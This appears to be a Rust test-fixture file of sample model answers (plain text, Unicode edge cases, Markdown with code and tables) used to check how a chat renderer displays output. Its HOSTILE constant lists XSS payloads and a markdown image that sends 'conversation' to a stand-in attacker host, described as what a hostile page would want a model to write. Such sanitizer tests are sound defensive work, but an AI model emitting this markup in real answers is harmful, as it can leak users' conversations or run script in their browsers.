//! Longer answers: what a model writes, and what a hostile page would want it to write.

pub(super) const ANSWER: &str = "A patch bay is a panel of sockets. Each cable joins one output to one \
input, so that anybody can see at a glance which way a signal takes.";

pub(super) const UNICODE: &str = "Grüße, 世界! Здравствуй, мир. \u{1F44B}\u{1F3FD} \u{1F469}\u{200D}\u{1F52C} \
नमस्ते e\u{301} ﷽ \u{202E}back\u{202C} end.";

pub(super) const THINKING: &str =
    "The person wants to know how a patch bay works. I will say it in two sentences.";

pub(super) const MARKDOWN: &str = r#"# Sorting in Rust

A slice has **two** sorts, and the choice is *not* a matter of taste:

1. `sort` keeps equal items in order (it is *stable*).
2. `sort_unstable` does not, and needs no extra memory.

```rust
fn main() {
    let mut words = vec!["pear", "fig", "apple"];
    words.sort_unstable_by_key(|word| word.len());
    println!("{words:?}"); // ["fig", "pear", "apple"]
}
```

| sort | stable | memory | worst case |
| --- | :---: | ---: | --- |
| `sort` | yes | n / 2 | O(n log n) |
| `sort_unstable` | no | 0 | O(n log n) |

> Measure before you choose. See [the documentation](https://doc.rust-lang.org/std/primitive.slice.html).

- [x] sorted
- [ ] measured

The same in Python:

```python
words = sorted(["pear", "fig", "apple"], key=len)
print(words)
```

That is all: $O(n \log n)$ either way.
"#;

pub(super) const HOSTILE: &str = r#"<script>document.title = "owned"</script>
<img src=x onerror="document.title = 'owned'">
<svg onload="document.title = 'owned'"></svg>
<iframe src="https://attacker.invalid/"></iframe>
[click me](javascript:document.title='owned')
![pixel](https://attacker.invalid/pixel.png?leak=conversation)
<a href="data:text/html,<script>document.title='owned'</script>">data</a>
<style>body { display: none }</style>
<form action="https://attacker.invalid/"><input name="key"></form>
`<b>code</b>` and &lt;entities&gt; &amp; the end.
"#;
